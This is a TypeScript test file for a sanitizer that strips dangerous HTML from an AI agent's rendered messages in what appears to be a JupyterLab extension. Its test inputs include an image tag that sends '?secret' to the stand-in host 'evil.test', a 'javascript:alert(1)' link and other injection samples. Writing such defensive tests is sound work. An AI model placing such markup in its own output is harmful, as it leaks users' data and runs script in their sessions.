import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import { describe, expect, it } from 'vitest';

import { AgentSanitizer } from '../src/agentsanitizer';

const sanitizer = new AgentSanitizer(new Sanitizer());

function drawn(html: string): Element {
  const box = document.createElement('div');
  box.innerHTML = sanitizer.sanitize(html);
  return box;
}

describe('what an agent says', () => {
  it('fetches nothing: a picture is a link to it', () => {
    const box = drawn('<p><img src="https://evil.test/?secret" alt="Loss"> <img src="x.png"></p>');
    expect(box.querySelectorAll('img')).toHaveLength(0);
    expect(box.querySelector('a')?.getAttribute('href')).toBe('https://evil.test/?secret');
    expect(box.textContent).toContain('Loss Picture');
    for (const tag of [
      'video src="https://e.test"',
      'iframe src="https://e.test"',
      'svg',
      'style'
    ]) {
      expect(drawn(`<${tag}></${tag.split(' ')[0]}>`).childElementCount).toBe(0);
    }
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    '/lab/tree/x',
    'notebook.ipynb',
    '//evil.test',
    '#top'
  ])('has no link to %s', address => {
    expect(drawn(`<a href="${address}">a</a>`).querySelector('[href]')).toBeNull();
  });

  it('leads to the web in a window that knows nothing of this one', () => {
    const link = drawn('<a href="https://example.org/">a</a>').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it('runs no command of Lab, takes no name, and looks like no part of Lab', () => {
    const box = drawn(
      '<button data-commandlinker-command="x">a</button>' +
        '<p id="main" class="jp-Dialog" style="position: fixed" data-x="1">text</p>'
    );
    expect(box.innerHTML).toBe('<p>text</p>');
  });

  it('makes no table larger than it is', () => {
    const cell = '<td colspan="1000" rowspan="65534">1</td>';
    expect(drawn(`<table><tr>${cell}</tr></table>`).innerHTML).toContain('<td>1</td>');
  });

  it('keeps what Markdown makes: tables, lists, code and its colours', () => {
    const box = drawn(
      '<table><tbody><tr><td align="right">1</td></tr></tbody></table><ol start="3"><li>a</li></ol>' +
        '<pre><code class="language-python"><span class="ͼ1a">def</span></code></pre>'
    );
    expect(box.querySelector('td')?.align).toBe('right');
    expect(box.querySelector('ol')?.start).toBe(3);
    expect(drawn('<table><tr><td colspan="2">1</td></tr></table>').innerHTML).toContain(
      'colspan="2"'
    );
    expect(box.querySelector('code.language-python > span')?.className).toBe('ͼ1a');
  });
});
